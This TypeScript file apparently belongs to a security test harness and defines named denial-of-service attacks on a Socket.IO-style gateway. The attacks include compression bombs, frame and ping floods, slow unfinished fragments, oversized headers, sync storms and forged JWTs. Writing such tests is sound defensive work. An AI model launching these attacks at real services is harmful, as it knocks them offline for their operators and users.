import { randomBytes, randomUUID } from "node:crypto";
import { setTimeout as sleep } from "node:timers/promises";
import {
  bomb,
  floodJoined,
  frame,
  gone,
  join,
  nested,
  openSocket,
  ping,
  repeat,
  sendUntilCut,
  text,
} from "./frames.ts";
import type { Attack, Target } from "./target.ts";

/** Sends bytes before any namespace is joined, without reading the answers. */
const flood =
  (lanes: number, bytes: Buffer, compressed = false): Attack =>
  (target) =>
    target.until(lanes, async () => {
      const socket = await openSocket(target, { compressed });
      if (socket === undefined) return;
      socket.pause();
      socket.write(bytes, () => socket.resume());
      await gone(socket);
      target.count("cut");
    });

/** Sends messages on joined connections at the pace at which the gateway takes them. */
const stream =
  (lanes: number, make: (index: number, target: Target) => string, reads = true): Attack =>
  (target) =>
    target.until(lanes, async (lane) => {
      const { guests } = target.place;
      const socket = await join(target, guests[lane % guests.length] ?? "");
      if (socket === undefined) return;
      if (reads) socket.resume();
      else socket.pause();
      for (let index = 0; !socket.destroyed && !target.signal.aborted; index += 1) {
        target.count("answered");
        socket.write(text(make(index, target)));
        if (index % 20 === 19) await sleep(5);
      }
      target.count("cut");
    });

const forged = (): string =>
  [
    Buffer.from('{"alg":"ES256","typ":"JWT","kid":"x"}').toString("base64url"),
    Buffer.from(JSON.stringify({ sub: randomUUID(), aud: "guest" })).toString("base64url"),
    randomBytes(64).toString("base64url"),
  ].join(".");

/** Attacks on the gateway: those of the first report, then further ones. */
export const socketAttacks: Readonly<Record<string, Attack>> = {
  "deep compressed CONNECT frames": flood(
    4,
    repeat(450, bomb(`40/guest,{"token":"x","a":${nested(30_000)}}`)),
    true,
  ),
  "tiny frames": flood(50, repeat(10_000, text("40/x,"))),
  "pings, answers unread": flood(20, repeat(20_000, ping())),
  "foreign namespaces after joining": (target) =>
    floodJoined(target, 10, repeat(10_000, text("40/x,"))),
  "binary attachments": (target) =>
    floodJoined(target, 10, repeat(50, text('459-/guest,["x",{"_placeholder":true,"num":0}]'))),
  "one code fills the places": (target) =>
    target.until(40, async () => {
      const socket = await join(target, target.place.guests[0] ?? "");
      await sleep(200);
      socket?.resume();
    }),
  "upgrades with headers of 15 kB": (target) =>
    target.until(40, () =>
      openSocket(target, { headers: `X-Filler: ${"x".repeat(15_000)}\r\n` }).then((socket) =>
        socket?.destroy(),
      ),
    ),
  "invented epochs in checks": stream(
    20,
    (index) =>
      `42/guest,${index}["sync",${JSON.stringify({ epoch: randomUUID(), seq: index, check: true })}]`,
  ),
  "sync storms of guests": stream(20, (index) => `42/guest,${index}["sync",{}]`),
  "answers never read": stream(40, (index) => `42/guest,${index}["sync",{}]`, false),
  "sync storms of a staff session": (target) =>
    target.until(5, async () => {
      const socket = await join(target, target.place.ownerToken, "/staff");
      if (socket === undefined) return;
      socket.resume();
      for (let index = 0; !socket.destroyed && !target.signal.aborted; index += 1) {
        target.count("answered");
        socket.write(text(`42/staff,${index}["sync",{"since":0}]`));
        if (index % 20 === 19) await sleep(5);
      }
    }),
  "joining and leaving": (target) =>
    target.until(30, async (lane) => {
      const { guests } = target.place;
      const socket = await join(target, guests[lane % guests.length] ?? "");
      socket?.end(Buffer.concat([text("41/guest,"), frame(0x88)]));
    }),
  "fragments never finished": (target) =>
    floodJoined(target, 20, Buffer.concat([frame(0x01, "x"), repeat(20_000, frame(0x00, "x"))])),
  "fragments at a crawl": (target) =>
    target.until(100, async () => {
      const socket = await openSocket(target);
      socket?.resume();
      for (let index = 0; socket && !socket.destroyed && !target.signal.aborted; index += 1) {
        socket.write(frame(index === 0 ? 0x01 : 0x00, "x"));
        await sleep(50);
      }
    }),
  "compressed messages of 1 MB": (target) =>
    target.until(10, async (lane) => {
      const { guests } = target.place;
      const token = guests[lane % guests.length] ?? "";
      const socket = await join(target, token, "/guest", { compressed: true });
      if (socket === undefined) return;
      socket.write(repeat(20, bomb(`42/guest,["x","${"x".repeat(900_000)}"]`)));
      await gone(socket.resume());
      target.count("cut");
    }),
  "reserved bits and broken deflate": flood(30, repeat(500, frame(0xf1, randomBytes(100))), true),
  "forged tokens": (target) =>
    target.until(40, async () => {
      await join(target, forged());
    }),
  "random bytes": (target) =>
    target.until(50, () => sendUntilCut(target, target.gatewayPort, randomBytes(20_000))),
};
